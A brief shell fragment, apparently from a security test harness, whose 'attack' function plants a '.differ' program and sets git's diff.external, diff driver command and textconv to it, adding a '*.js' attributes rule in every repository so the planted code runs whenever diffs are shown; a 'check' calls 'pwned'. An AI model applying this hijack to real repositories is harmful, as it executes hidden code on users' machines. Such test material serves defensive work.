# Sets programs that show differences: for all files, and for those of an attribute.
attack() {
  work
  plant .differ
  everywhere diff.external "$PWD/.differ"
  everywhere diff.smuggler.command "$PWD/.differ"
  everywhere diff.smuggler.textconv "$PWD/.differ"
  for dir in $(git_dirs); do mkdir -p "$dir/info" && echo '*.js diff=smuggler' >> "$dir/info/attributes"; done
}
check() { pwned; }
